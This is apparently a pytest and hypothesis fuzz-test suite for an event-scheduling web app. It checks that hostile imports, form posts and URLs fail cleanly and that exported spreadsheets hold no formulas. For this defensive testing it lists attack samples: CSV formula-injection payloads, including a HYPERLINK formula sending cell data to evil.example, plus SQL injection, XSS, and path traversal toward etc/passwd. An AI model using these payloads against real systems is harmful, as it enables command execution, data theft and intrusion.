"""Bad input never breaks anything: random and hostile spreadsheets, forms and URLs, on
SQLite and PostgreSQL. The answer is always a clear message (a 4xx on the web, exit 2 on the
command line), never a 500 or a traceback; a refused import leaves every table as it was;
and the sheets we write never hand a spreadsheet a formula to run.

Example counts are moderate (CI replays the same examples: the "ci" profile in
tests/conftest.py); the instance reader's own fuzzing is in tests/test_validate.py."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from scheduler.calendars.sheet import meetings_csv, meetings_xlsx, xlsx_value
from scheduler.cli.commands import main
from scheduler.formats.problems import InvalidInput
from tests.web.test_security import fair  # noqa: F401 - the solved, published tiny event
from web.conversion import save_instance
from web.importing.columns import SHEETS
from web.importing.export import csv_text, sheet_rows, write_workbook
from web.importing.files import import_file
from web.models import Base

FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "'; DROP TABLE companies; --",
    "<script>alert(1)</script>",
    "武田薬品工業",
    "x" * 100_000,
    "\u202eevil",
    "",
    " ",
    "0",
    "-1",
    "99999999999999999999",
    "1e309",
    "NaN",
    "2026-02-30 10:00",
    "big; acme; nobody",
]
text_cells = st.sampled_from(HOSTILE_CELLS) | st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30
)
cells = text_cells | st.integers() | st.floats(allow_nan=True) | st.none()
sheet_names = st.sampled_from([*SHEETS, "readme", "Companies ", "other", "会社"])
encodings = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "shift_jis", "cp1252", "latin-1"])


def headings(name: str):
    key = name.strip().lower()
    known = [c.name for c in SHEETS[key]] if key in SHEETS else []
    return st.lists(st.sampled_from([*known, "", "extra", "ID", "名前"]), max_size=12) | st.just(
        known
    )


@st.composite
def csv_files(draw) -> tuple[str, bytes]:
    name = draw(sheet_names)
    if draw(st.booleans()):
        return f"{name}.csv", draw(st.binary(max_size=300))
    rows = [draw(headings(name))]
    rows += draw(st.lists(st.lists(cells, max_size=12), max_size=6))
    buffer = io.StringIO()
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return f"{name}.csv", buffer.getvalue().encode(draw(encodings), errors="ignore")


@st.composite
def workbooks(draw) -> bytes:
    kind = draw(st.sampled_from(["sheets", "bytes", "truncated", "zip"]))
    if kind == "bytes":
        return draw(st.binary(max_size=300))
    if kind == "zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", draw(st.binary(max_size=100)))
            archive.writestr("xl/workbook.xml", draw(st.binary(max_size=100)))
        return buffer.getvalue()
    book = Workbook()
    book.remove(book.active)
    for name in draw(st.lists(sheet_names, min_size=1, max_size=3, unique=True)):
        sheet = book.create_sheet(name.strip()[:31] or "x")
        sheet.append(draw(headings(name)))
        for row in draw(st.lists(st.lists(cells, max_size=10), max_size=5)):
            sheet.append([xlsx_value(c[:32_000]) if isinstance(c, str) else c for c in row])
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if kind == "truncated":
        # A cut drawn independently of the length: the file's length varies with the second
        # it is saved in (its properties hold the time), and hypothesis replays draws exactly.
        data = data[: draw(st.integers(0, 1 << 20)) % len(data)]
    return data


def counts(session) -> dict[str, int]:
    session.rollback()
    return {
        t.name: session.scalar(select(func.count()).select_from(t))
        for t in Base.metadata.sorted_tables
    }


def try_import(session, path) -> None:
    """Import as the web app and the CLI do: all or nothing. Refused: every table as it was."""
    before = counts(session)
    try:
        import_file(session, path, "tiny")
    except InvalidInput as error:
        session.rollback()
        assert error.problems and all(str(p) for p in error.problems)
        assert counts(session) == before
    else:
        session.commit()


@FUZZ
@given(file=csv_files())
def test_random_csv_sheets_import_or_are_refused_whole(session, dummy_event, tmp_path, file):
    name, data = file
    path = tmp_path / name
    path.write_bytes(data)
    try_import(session, path)


@FUZZ
@given(data=workbooks())
def test_random_workbooks_import_or_are_refused_whole(session, dummy_event, tmp_path, data):
    path = tmp_path / "event.xlsx"
    path.write_bytes(data)
    try_import(session, path)


@FUZZ
@given(files=st.lists(csv_files(), max_size=3), junk=st.binary(max_size=50))
def test_random_zips_import_or_are_refused_whole(session, dummy_event, tmp_path, files, junk):
    path = tmp_path / "sheets.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files:
            archive.writestr(name, data)
        archive.writestr("notes.txt", junk)
    try_import(session, path)


@FUZZ
@given(
    spots=st.lists(st.tuples(st.integers(2, 1_048_576), st.integers(1, 16_384), cells), max_size=20)
)
def test_workbooks_with_cells_anywhere_import_or_are_refused_whole(
    session, dummy_event, tmp_path, spots
):
    """Values anywhere up to Excel's last row and column: read as fast as the few cells the file
    holds, every value right of the headings named by its row and column."""
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    sheet.title = "companies"
    sheet.append(["id", "name", "role"])
    for row, column, value in spots:
        sheet.cell(row, column, xlsx_value(value[:100]) if isinstance(value, str) else value)
    path = tmp_path / "event.xlsx"
    book.save(path)
    stray: dict[int, int] = {}  # row -> its first column right of the headings with a value
    held = load_workbook(path, data_only=True)["companies"]._cells  # only the cells it holds
    for (row, column), cell in held.items():
        if column > 3 and cell.value is not None and str(cell.value).strip():
            stray[row] = min(column, stray.get(row, column))
    before = counts(session)
    try:
        import_file(session, path, "tiny")
    except InvalidInput as error:
        session.rollback()
        assert counts(session) == before
        messages = " ".join(str(p) for p in error.problems)
        if "is past the last row" not in messages:
            for row, column in stray.items():
                assert f"row {row}, column {get_column_letter(column)}: holds a value" in messages
    else:
        session.commit()
        assert not stray


def test_a_hostile_file_gets_exit_2_on_the_command_line(tmp_path, monkeypatch):
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.setenv("PARTNERING_INSTANCE_PATH", str(tmp_path / "instance"))
    runner = CliRunner()
    assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
    hostile = {
        "companies.csv": "id,name,role\n=cmd|' /C calc'!A0,x,corporate\n".encode("utf-16"),
        "event.xlsx": b"PK\x03\x04" + b"\x00" * 200,
        "sheets.zip": b"not a zip",
        "event.json": b'{"format": "partnering-instance/1", "event": [' * 50,
        "requests.csv": b"\xff\xfe\x00",
    }
    for name, data in hostile.items():
        path = tmp_path / name
        path.write_bytes(data)
        result = runner.invoke(main, ["import", str(path), "--event", "tiny"])
        assert result.exit_code == 2, (name, result.output, result.exception)
        assert "Traceback" not in result.output


# --- what we write: no formulas -------------------------------------------------------------


def test_exported_sheets_never_hold_a_formula(session, tmp_path):
    """A company named like a formula: the organiser's CSV, XLSX and meetings sheets show it
    as text, and the organiser's sheets import back unchanged."""
    from tests.conftest import TINY_EVENT, solve_document
    from web.conversion import document_from_event

    names = {"acme": "=cmd|' /C calc'!A0", "big": "+SUM(1,2)", "cell": "@Cell -Co"}
    document = {
        **TINY_EVENT,
        "companies": [{**c, "name": names[c["id"]]} for c in TINY_EVENT["companies"]],
        "requests": [{**r, "notes": "-2+3"} for r in TINY_EVENT["requests"]],
    }
    event, _ = save_instance(session, document, "tiny")
    session.commit()
    rows = sheet_rows(session, event)
    for text in [csv_text(lines) for lines in rows.values()]:
        for line in csv.reader(io.StringIO(text)):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
    path = tmp_path / "event.xlsx"
    write_workbook(rows, path)
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(cell.data_type == "f" for cell in row), sheet.title
    # The CSV sheets and the workbook import back as they were.
    zipped = tmp_path / "event.zip"
    from web.importing.export import write_csv_zip

    write_csv_zip(rows, zipped)
    for again in (zipped, path):
        report = import_file(session, again, "tiny")
        assert all(not c["created"] and not c["updated"] for c in report.counts.values())
        session.rollback()
    # The meetings sheet of a schedule.
    from scheduler.formats.instance_reader import instance_from_document
    from scheduler.formats.schedule_io import schedule_from_document

    instance, _ = instance_from_document(document_from_event(session, event))
    schedule = schedule_from_document(solve_document(document), instance)
    assert schedule.meetings
    for line in csv.reader(io.StringIO(meetings_csv(instance, schedule).decode("utf-8-sig"))):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
    book = load_workbook(io.BytesIO(meetings_xlsx(instance, schedule)))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "=cmd|' /C calc'!A0" in values or "+SUM(1,2)" in values
    assert not any(c.data_type == "f" for row in book.active.iter_rows() for c in row)
    # A control character (pasted from another program) cannot break the workbook either.
    write_workbook({"companies": [["id", "name"], ["x", "Bell\x07 Bio"]]}, tmp_path / "c.xlsx")
    assert load_workbook(tmp_path / "c.xlsx")["companies"]["B2"].value == "Bell Bio"


# --- the web: every form, every JSON endpoint ------------------------------------------------

FIELDS = [
    "name", "role", "delegation", "max_meetings_per_day", "version", "attendees", "title",
    "email", "company_id", "day", "start", "end", "attendee", "status", "priority", "notes",
    "to", "time_limit", "seed", "keep_published", "allow_moves", "slug", "venue", "timezone",
    "slot_minutes", "days", "tables", "kind", "owner", "language", "back", "password",
]  # fmt: skip
form_values = (
    text_cells
    | st.integers(-(2**63), 2**63).map(str)
    | st.sampled_from(["accepted", "declined", "corporate", "delegation", "2026-10-14", "10:00"])
    | st.sampled_from(["Asia/Tokyo", "2026-10-14 10:00-11:00", "1", "0", "y", "\x00", "%00"])
)
forms = st.dictionaries(st.sampled_from(FIELDS), form_values, max_size=8)
HOSTILE_PARTS = ["x", "%00", "é", "a" * 300, "..", "%2e%2e%2fetc%2fpasswd", "1 OR 1=1"]
ids = st.sampled_from([0, 1, 2, 3, 2**31 - 1, 2**31, 2**63, 10**30])


def post_routes(app) -> list:
    return [r for r in app.url_map.iter_rules() if "POST" in r.methods]


def fill(rule, token: str, number: int) -> str:
    values = {"slug": "tiny", "token": token, "kind": "meetings.csv", "company": "acme"}
    path = rule.rule
    for name in rule.arguments:
        value = values.get(name, number)
        path = path.replace(f"<int:{name}>", str(value)).replace(f"<{name}>", str(value))
    return path


@pytest.fixture
def token(session, dummy_event) -> str:
    from web.companies.models import Company

    return session.scalar(select(Company.access_token).where(Company.external_id == "big"))


@settings(FUZZ, max_examples=60)
@given(data=st.data())
def test_every_form_survives_random_values(organiser, app, token, data):
    """Logged in, with CSRF satisfied: random values in every POST form give a page or a
    redirect or a 4xx, never a 500."""
    rule = data.draw(st.sampled_from(post_routes(app)))
    path = fill(rule, token, data.draw(ids))
    response = organiser.post(path, data=data.draw(forms))
    assert response.status_code < 500, (path, response.status_code)


@settings(FUZZ, max_examples=40)
@given(data=st.data())
def test_every_page_and_json_endpoint_survives_random_urls(organiser, app, token, data):
    rule = data.draw(st.sampled_from([r for r in app.url_map.iter_rules() if "GET" in r.methods]))
    path = fill(rule, data.draw(st.sampled_from([token, "x", "%00", "A" * 80])), data.draw(ids))
    for value in ("tiny", "acme", "meetings.csv"):  # the slug, a company, a download
        if data.draw(st.booleans()):
            path = path.replace(f"/{value}", "/" + data.draw(st.sampled_from(HOSTILE_PARTS)))
    response = organiser.get(path, query_string=data.draw(forms))
    assert response.status_code < 500, (path, response.status_code)
    if path.endswith(".json") and response.status_code == 200:
        assert response.is_json


def bad_workbook() -> bytes:
    book = Workbook()
    book.active.title = "companies"
    book.active.append(["id", "name", "role"])
    book.active.append(["x", "X", "corp"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "place"),
    [
        (
            "Broken Event.json",
            b'{"format": "partnering-instance/1", "event": {',
            "Broken Event.json:1:",
        ),
        # The name as chosen: werkzeug's secure_filename made this "json", no JSON file at all.
        ("京都.json", b'{"format": "partnering-instance/1", "event": {', "京都.json:1:"),
        (
            "../../etc/companies.csv",
            b"id,name,role\nx,X,corp\n",
            "companies.csv: row 2, column role",
        ),
        ("digits.json", b'{"n": ' + b"9" * 5000 + b"}", "digits.json:1:7"),
        ("companies.csv", b"id,name,role\nx,X,corp\n", "companies.csv: row 2, column role"),
        ("event.xlsx", bad_workbook(), "event.xlsx, sheet companies: row 2, column role"),
    ],
)
def test_an_uploads_problems_name_the_uploaded_file_not_a_temporary_path(
    organiser, session, dummy_event, name, data, place
):
    before = counts(session)
    response = organiser.post(
        "/events/tiny/import",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert f"<code>{place}" in page, page
    assert tempfile.gettempdir() not in page
    assert counts(session) == before


@settings(FUZZ, max_examples=25)
@given(
    name=st.sampled_from(["event.json", "companies.csv", "event.xlsx", "x.zip", "x.exe", ""]),
    data=st.binary(max_size=400) | workbooks(),
    slug=st.sampled_from(["tiny", "new-one", "Bad Slug", ""]),
)
def test_uploads_survive_random_files(organiser, session, dummy_event, name, data, slug):
    before = counts(session)
    response = organiser.post(
        "/events/tiny/import",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 422), response.status_code
    if response.status_code == 422:
        assert counts(session) == before
        assert tempfile.gettempdir() not in response.get_data(as_text=True)
    response = organiser.post(
        "/events/import",
        data={"file": (io.BytesIO(data), name), "slug": slug},
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 422), response.status_code


def test_a_file_with_a_problem_on_every_row_lists_the_first_ones(
    organiser, session, dummy_event, monkeypatch
):
    """A mistake on each of 100,000 rows would make a page of 100,000 problems: the first
    PROBLEMS_SHOWN are listed, and how many more there are."""
    from web.events import views

    monkeypatch.setattr(views, "PROBLEMS_SHOWN", 2)
    rows = "".join(f"x{n},X,corp\n" for n in range(5))
    response = organiser.post(
        "/events/tiny/import",
        data={"file": (io.BytesIO(f"id,name,role\n{rows}".encode()), "companies.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert page.count("<li><code>companies.csv: row") == 2
    assert "And 3 more problems" in page


def test_an_integer_field_beyond_the_columns_range_is_a_404_not_a_500(
    organiser,
    session,
    fair,  # noqa: F811 - the solved, published tiny event of the security walk
):
    """Pages and ids in the query (a page number, a table on the live board) too large for
    any integer column, as the attacker walk sent them."""
    from web.security import INTEGER_FIELDS

    token = fair["companies"]["acme"].access_token
    huge = "99999999999999999999"
    paths = [
        f"/c/{token}/directory/?page={huge}",
        f"/events/tiny/outbox/?page={huge}",
        f"/events/tiny/audit/?page={huge}",
        f"/events/tiny/board?location={huge}",
    ]
    assert {"page", "location"} <= INTEGER_FIELDS
    paths.append(f"/events/tiny/outbox/?page={'9' * 5000}")  # more digits than int() reads
    for path in paths:
        assert organiser.get(path).status_code == 404, path
    assert organiser.get("/events/tiny/outbox/?page=2").status_code == 200
    assert organiser.get("/events/tiny/outbox/?page=²").status_code == 200  # not a number
